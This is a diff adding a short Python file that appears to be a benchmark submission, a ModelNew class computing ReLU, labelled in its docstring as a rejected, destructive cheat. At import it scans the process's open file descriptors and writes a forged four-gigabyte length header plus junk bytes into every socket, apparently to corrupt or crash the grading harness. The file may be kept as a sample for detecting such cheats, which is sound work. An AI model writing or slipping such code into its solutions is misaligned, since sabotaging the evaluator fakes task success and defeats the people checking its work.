@@ -1,0 +1,22 @@
+"""Announces a message of four gigabytes.
+
+status: rejected_cheat
+error: integrity protocol
+destructive: yes
+"""
+
+import os
+
+import torch
+
+for name in os.listdir("/proc/self/fd"):
+    try:
+        if os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
+            os.write(int(name), b"\xff\xff\xff\xff" + b"x" * 1000)
+    except OSError:
+        pass
+
+
+class ModelNew(torch.nn.Module):
+    def forward(self, x):
+        return torch.relu(x)
